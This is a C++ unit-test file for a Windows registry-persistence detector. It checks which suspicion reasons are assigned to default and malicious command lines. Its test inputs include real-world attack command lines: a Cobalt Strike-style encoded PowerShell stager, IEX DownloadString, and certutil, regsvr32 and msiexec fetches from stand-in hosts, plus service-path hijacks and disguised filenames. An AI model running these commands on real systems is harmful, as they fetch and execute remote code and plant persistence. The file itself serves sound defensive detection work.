// Suspicion reasons of command lines and names (regpersist/decoders.h command_line_reasons,
// name_reasons, is_user_writable_path): planted real-world persistence command lines yield their
// reasons, Windows defaults (catalog §5 and every service ImagePath of the shared SYSTEM hives) none.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "regpersist/decoders.h"
#include "unit/catalog/decoders_fixtures.h"

namespace regpersist {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;

Environment user_environment() {
  Environment env = Environment::windows_defaults();
  env.set_user_profile("C:\\Users\\bob");
  return env;
}

std::vector<std::string> reasons_of(std::string_view text) {
  return command_line_reasons(parse_command_line(text, user_environment()));
}

TEST(DecodersHeuristics, WindowsDefaultCommandLinesHaveNoReasons) {
  for (std::string_view text : {
           "%windir%\\system32\\SecurityHealthSystray.exe",
           "\"%ProgramFiles%\\Windows Defender\\MSASCuiL.exe\"",
           "\"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
           "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window "
           "--win-session-start",
           "C:\\Windows\\SysWOW64\\OneDriveSetup.exe /thfirstsetup",
           "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\" "
           "--process-start-args \"--system-initiated\"",
           "C:\\Windows\\System32\\ie4uinit.exe -UserConfig",
           "C:\\Windows\\System32\\ie4uinit.exe -EnableTLS",
           "C:\\Windows\\System32\\Rundll32.exe C:\\Windows\\System32\\mscories.dll,Install",
           "\"C:\\Windows\\System32\\rundll32.exe\" \"C:\\Windows\\System32\\iesetup.dll\",IEHardenUser",
           "C:\\Windows\\System32\\unregmp2.exe /FirstLogon",
           "regsvr32.exe /s /n /i:U shell32.dll",
           "C:\\Windows\\system32\\regsvr32.exe /s /n /i:/UserInstall C:\\Windows\\system32\\themeui.dll",
           "\"C:\\Program Files\\Windows Mail\\WinMail.exe\" OCInstallUserConfigOE",
           "C:\\Windows\\system32\\userinit.exe,",
           "explorer.exe",
           "%SystemRoot%\\system32\\svchost.exe -k netsvcs -p",
           "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe\"",
           "%SystemRoot%\\system32\\cmd.exe",
           "cmd.exe",
           "rdpclip",
           "\"%1\" %*",
           "\"C:\\Windows\\SysWOW64\\mshta.exe\" \"%1\" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}",
           "\"%SystemRoot%\\System32\\WScript.exe\" \"%1\" %*",
           "%SystemRoot%\\System32\\rundll32.exe shell32.dll,Control_RunDLL \"%1\",%*",
           "C:\\Windows\\system32\\dllhost.exe /Processid:{26FE4608-7034-49DE-B40F-56C7E1B17473}",
           "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr",
           "%systemroot%\\system32\\msiexec.exe /V",
       }) {
    EXPECT_THAT(reasons_of(text), IsEmpty()) << text;
  }
}

TEST(DecodersHeuristics, WindowsDefaultScheduledTaskActionsHaveNoReasons) {
  for (std::string_view text : {
           "%windir%\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations",
           "%windir%\\system32\\sc.exe start w32time task_started",
           "%windir%\\system32\\rundll32.exe %windir%\\system32\\AppxDeploymentClient.dll,AppxPreStageCleanupRunTask",
           "%windir%\\system32\\rundll32.exe %windir%\\system32\\pla.dll,PlaHost \"Server Manager Performance "
           "Monitor\" \"$(Arg0)\"",
           "%windir%\\system32\\defrag.exe -c -h -o -$",
           "%windir%\\system32\\cleanmgr.exe /autoclean /d %systemdrive%",
           "%SystemRoot%\\System32\\wermgr.exe -upload",
       }) {
    EXPECT_THAT(reasons_of(text), IsEmpty()) << text;
  }
}

// Command lines of public intrusion reports (Cobalt Strike and Impacket services, Emotet, Qakbot,
// startup scripts, service reconfiguration).
TEST(DecodersHeuristics, RealWorldAttackCommandLines) {
  using ::testing::IsSupersetOf;
  const std::string cobalt_strike =
      "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand "
      "JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACgALABbAEMAbwBuAHYAZQByAHQAXQA6AD"
      "oARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZwAoACIASAA0AHMASQBBAEEAQQBBAEEAQQBBAEEAQQBMAFYAVwBiAFcAIgApACkAOwBJ"
      "AEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAFMAdAByAGUAYQBtAFIAZQBhAGQAZQByACgAJABzACkAKQAuAFIAZQBhAGQAVA"
      "BvAEUAbgBkACgAKQA7AA==";
  EXPECT_THAT(reasons_of(cobalt_strike), ElementsAre("encoded_powershell", "lolbin:cmd", "lolbin:powershell"));
  const CommandLine parsed = parse_command_line(cobalt_strike, user_environment());
  ASSERT_EQ(parsed.wrapped.size(), 1u);
  ASSERT_EQ(parsed.wrapped[0].wrapped.size(), 1u);
  EXPECT_EQ(parsed.wrapped[0].wrapped[0].decoded_powershell,
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"H4sIAAAAAAAAALVWbW\"));"
            "IEX (New-Object IO.StreamReader($s)).ReadToEnd();");

  EXPECT_THAT(reasons_of("\\\\127.0.0.1\\ADMIN$\\7f3c2a1.exe"), ElementsAre("unc_path"));
  EXPECT_THAT(reasons_of("%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & "
                         "%COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat"),
              IsSupersetOf({"lolbin:cmd", "unc_path", "user_writable_path"}));
  EXPECT_THAT(reasons_of("C:\\Windows\\SysWOW64\\rundll32.exe \"C:\\Users\\bob\\AppData\\Local\\Qwerty\\uiop.dll\","
                         "DllRegisterServer"),
              ElementsAre("lolbin:rundll32", "user_writable_path"));
  EXPECT_THAT(reasons_of("regsvr32.exe -s \"C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Xyz\\abc.dll\""),
              ElementsAre("lolbin:regsvr32", "user_writable_path"));
  EXPECT_THAT(reasons_of("wscript.exe \"C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start "
                         "Menu\\Programs\\Startup\\update.js\""),
              ElementsAre("lolbin:wscript", "script_file", "user_writable_path"));
  EXPECT_THAT(reasons_of("C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\Winupd.exe"),
              ElementsAre("lolbin:cmd", "user_writable_path"));
  EXPECT_THAT(reasons_of("sc.exe config wuauserv binPath= \"C:\\ProgramData\\x.exe\""),
              ElementsAre("lolbin:sc", "user_writable_path"));
  EXPECT_THAT(reasons_of("rundll32.exe -sta {C90250F3-4D7D-4991-9B69-A5C5BC1C2AE6}"), ElementsAre("lolbin:rundll32"));
}

TEST(DecodersHeuristics, UserWritableLocations) {
  for (std::string_view path :
       {"C:\\Users\\bob\\AppData\\Roaming\\svc\\svc.exe", "C:\\ProgramData\\upd.exe", "C:\\Windows\\Temp\\a.dll",
        "C:\\$Recycle.Bin\\S-1-5-21-1\\x.exe", "C:\\perf\\x.exe", "c:/users/public/x.exe", "D:\\tools\\x.exe",
        "C:\\Windows\\Tasks\\x.exe", "C:\\Windows\\System32\\spool\\drivers\\color\\x.exe",
        "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\evil.exe",
        "C:\\Users\\bob\\x\\ProgramData\\Microsoft\\Windows Defender\\Platform\\evil.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\..\\..\\..\\evil.exe",
        "C:\\Windows\\System32\\..\\Temp\\x.exe"}) {
    EXPECT_TRUE(is_user_writable_path(path)) << path;
  }
  for (std::string_view path :
       {"C:\\Program Files\\Vendor\\app.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe", "svchost.exe",
        "\\\\srv\\share\\a.exe", "C:\\x.exe", "", "C:\\Program Files\\App\\Users\\x.exe",
        "C:\\Program Files\\App\\.\\bin\\x.exe"}) {
    EXPECT_FALSE(is_user_writable_path(path)) << path;
  }
}

TEST(DecodersHeuristics, UserWritablePathInImagePayloadArgumentsOrVariables) {
  EXPECT_THAT(reasons_of("C:\\Users\\Public\\u.exe"), ElementsAre("user_writable_path"));
  EXPECT_THAT(reasons_of("\"C:\\Program Files\\V\\v.exe\" --config C:\\ProgramData\\v\\x.cfg"),
              ElementsAre("user_writable_path"));
  Environment no_profile = Environment::windows_defaults();
  EXPECT_THAT(command_line_reasons(parse_command_line("%APPDATA%\\x\\y.exe", no_profile)),
              ElementsAre("user_writable_path"));
}

TEST(DecodersHeuristics, Lolbins) {
  EXPECT_THAT(reasons_of("rundll32.exe C:\\Users\\bob\\a.dat,Start"),
              ElementsAre("lolbin:rundll32", "user_writable_path"));
  EXPECT_THAT(reasons_of("rundll32.exe shell32.dll,#61"), ElementsAre("lolbin:rundll32"));
  EXPECT_THAT(reasons_of("rundll32.exe advpack.dll,LaunchINFSection C:\\x\\a.inf,DefaultInstall"),
              ElementsAre("lolbin:rundll32", "user_writable_path"));
  EXPECT_THAT(reasons_of("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \""),
              ElementsAre("lolbin:rundll32"));
  EXPECT_THAT(reasons_of("regsvr32 /s /n /u /i:http://10.0.0.5/a.sct scrobj.dll"),
              ElementsAre("lolbin:regsvr32", "script_file", "url_in_command"));
  EXPECT_THAT(reasons_of("regsvr32.exe /s C:\\Users\\bob\\x.dll"),
              ElementsAre("lolbin:regsvr32", "user_writable_path"));
  EXPECT_THAT(reasons_of("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run\")"),
              ElementsAre("lolbin:mshta"));
  EXPECT_THAT(reasons_of("certutil -urlcache -f http://x.example/a C:\\Windows\\Temp\\a.exe"),
              ElementsAre("lolbin:certutil", "url_in_command", "user_writable_path"));
  EXPECT_THAT(reasons_of("bitsadmin /transfer j /download /priority high http://x/a C:\\a.exe"),
              ElementsAre("lolbin:bitsadmin", "url_in_command"));
  EXPECT_THAT(reasons_of("msiexec /q /i http://x.example/p.msi"), ElementsAre("lolbin:msiexec", "url_in_command"));
  EXPECT_THAT(reasons_of("C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /U C:\\Users\\bob\\p.dll"),
              ElementsAre("lolbin:installutil", "user_writable_path"));
  EXPECT_THAT(reasons_of("regedit.exe /s C:\\Users\\Public\\a.reg"),
              ElementsAre("lolbin:regedit", "user_writable_path"));
  EXPECT_THAT(reasons_of("regedit.exe"), IsEmpty());
  EXPECT_THAT(reasons_of("ie4uinit.exe -BaseSettings"), ElementsAre("lolbin:ie4uinit"));
}

TEST(DecodersHeuristics, CmdWrapperReasonsIncludeTheWrappedCommand) {
  EXPECT_THAT(reasons_of("cmd.exe /c start /min C:\\Users\\Public\\u.bat"),
              ElementsAre("lolbin:cmd", "script_file", "user_writable_path"));
  EXPECT_THAT(reasons_of("cmd /c \"\"C:\\Program Files\\V\\x.exe\" -a\""), ElementsAre("lolbin:cmd"));
  EXPECT_THAT(reasons_of("conhost.exe --headless powershell -w hidden -nop -c calc"),
              ElementsAre("encoded_powershell", "lolbin:conhost", "lolbin:powershell"));
  EXPECT_THAT(reasons_of("explorer.exe C:\\Users\\Public\\x.exe"),
              ElementsAre("lolbin:explorer", "user_writable_path"));
}

TEST(DecodersHeuristics, EncodedPowershell) {
  EXPECT_THAT(reasons_of("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA"),
              ElementsAre("encoded_powershell", "lolbin:powershell"));
  EXPECT_THAT(reasons_of("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""),
              ElementsAre("encoded_powershell", "lolbin:powershell", "url_in_command"));
  EXPECT_THAT(reasons_of("powershell.exe -ExecutionPolicy Bypass -File \"C:\\Program Files\\Vendor\\Cleanup.ps1\""),
              ElementsAre("lolbin:powershell", "script_file"));
  EXPECT_THAT(reasons_of("powershell -Encoding utf8 Get-Date"), ElementsAre("lolbin:powershell"));
  EXPECT_THAT(reasons_of("powershell -c \"$x='a'; & $x\""), ElementsAre("encoded_powershell", "lolbin:powershell"));
  std::string chars = "powershell -c \"";
  for (int i = 0; i < 10; ++i) chars += "[char]65+";
  EXPECT_THAT(reasons_of(chars + "''\""), ElementsAre("encoded_powershell", "lolbin:powershell"));
  EXPECT_THAT(reasons_of("C:\\Tools\\agent.exe " + std::string(220, 'A')),
              ElementsAre("encoded_powershell", "user_writable_path"));
}

TEST(DecodersHeuristics, UncUrlAndUnquotedPaths) {
  EXPECT_THAT(reasons_of("\\\\10.0.0.5\\share\\a.exe"), ElementsAre("unc_path"));
  EXPECT_THAT(reasons_of("rundll32 \\\\evil@SSL\\dav\\x.dll,Run"), ElementsAre("lolbin:rundll32", "unc_path"));
  EXPECT_THAT(reasons_of("\\\\?\\C:\\Windows\\System32\\notepad.exe"), IsEmpty());
  EXPECT_THAT(reasons_of("\"C:\\Program Files\\V\\v.exe\" --server www.example.com"), ElementsAre("url_in_command"));
  EXPECT_THAT(reasons_of("\"C:\\Program Files\\V\\v.exe\" --server 185.1.2.3:443"), ElementsAre("url_in_command"));
  EXPECT_THAT(reasons_of("\"C:\\Program Files\\V\\1.2.3.4\\v.exe\""), IsEmpty());  // version folder, no URL
  EXPECT_THAT(reasons_of("C:\\Program Files\\Vendor App\\svc.exe -k"), ElementsAre("unquoted_path_with_spaces"));
  EXPECT_THAT(reasons_of("\"C:\\Program Files\\Vendor App\\svc.exe\" -k"), IsEmpty());
}

TEST(DecodersHeuristics, NamesExtensionsAndRelativePaths) {
  EXPECT_THAT(reasons_of("C:\\Program Files\\V\\invoice.pdf.exe"),
              ElementsAre("double_extension", "unquoted_path_with_spaces"));
  EXPECT_THAT(reasons_of("\"C:\\Program Files\\V\\report.doc      .scr\""), ElementsAre("double_extension"));
  EXPECT_THAT(reasons_of("\"C:\\Program Files\\Python3.12\\python.exe\""), IsEmpty());
  EXPECT_THAT(reasons_of("wscript.exe //B C:\\ProgramData\\a.vbs"),
              ElementsAre("lolbin:wscript", "script_file", "user_writable_path"));
  EXPECT_THAT(reasons_of("Temp\\x.exe"), ElementsAre("relative_path"));
  EXPECT_THAT(reasons_of("..\\x.exe"), ElementsAre("relative_path"));
  EXPECT_THAT(reasons_of("\"C:\\Program Files\\V\\svc\xE2\x80\xAE"
                         "exe.scr\""),
              ElementsAre("nul_in_name"));
  EXPECT_THAT(reasons_of("C:\\Windows\\Temp\\userinit.exe"),
              ElementsAre("system_binary_mismatch", "user_writable_path"));
  EXPECT_THAT(reasons_of("\"C:\\Program Files\\V\\svchost.exe\""), ElementsAre("system_binary_mismatch"));
  EXPECT_THAT(reasons_of("C:\\Windows\\system32\\userinit.exe"), IsEmpty());
}

TEST(DecodersHeuristics, NameReasons) {
  EXPECT_THAT(name_reasons(std::string("\0Updater", 8)), ElementsAre("nul_in_name"));
  EXPECT_THAT(name_reasons("svchost\xE2\x80\xAE"
                           "exe.scr"),
              ElementsAre("nul_in_name"));  // RLO
  EXPECT_THAT(name_reasons("a\xE2\x80\x8B"
                           "b"),
              ElementsAre("nul_in_name"));                                    // zero-width space
  EXPECT_THAT(name_reasons("\xEF\xBB\xBFname"), ElementsAre("nul_in_name"));  // BOM
  EXPECT_THAT(name_reasons("   "), ElementsAre("nul_in_name"));
  EXPECT_THAT(name_reasons(std::string(256, 'a')), ElementsAre("nul_in_name"));
  EXPECT_THAT(name_reasons(std::string(255, 'a')), IsEmpty());
  EXPECT_THAT(name_reasons(""), IsEmpty());
  EXPECT_THAT(name_reasons(" OneDrive1"), IsEmpty());
  EXPECT_THAT(name_reasons("SecurityHealth"), IsEmpty());
  EXPECT_THAT(name_reasons("caf\xC3\xA9"), IsEmpty());  // ordinary non-ASCII
}

// Every service ImagePath of the real SYSTEM hives is a Windows or vendor default: none may be flagged
// (drivers are not started through CreateProcess, so their paths are decoded as path values).
TEST(DecodersHeuristics, RealServiceImagePathsHaveNoReasons) {
  std::size_t checked = 0;
  for (const char* name : testsupport::kSharedSystemHives) {
    const testsupport::CorpusHive corpus(name);
    const Hive& hive = corpus.hive;
    const auto services = hive.find("ControlSet001\\Services");
    ASSERT_TRUE(services.has_value()) << name;
    const Environment env = Environment::windows_defaults();
    for (const Key& service : services->subkeys()) {
      const auto image = service.value("ImagePath");
      if (!image) continue;
      std::uint64_t type = 0;
      const auto type_value = service.value("Type");
      const bool driver =
          type_value && type_value->as_number(type) && service_type_is_driver(static_cast<std::uint32_t>(type));
      const CommandLine command =
          driver ? parse_path_value(image->as_string(), env) : parse_command_line(image->as_string(), env);
      EXPECT_THAT(command_line_reasons(command), IsEmpty()) << name << " " << service.name() << ": " << command.raw;
      ++checked;
    }
  }
  EXPECT_GT(checked, 900u);
}

}  // namespace
}  // namespace regpersist
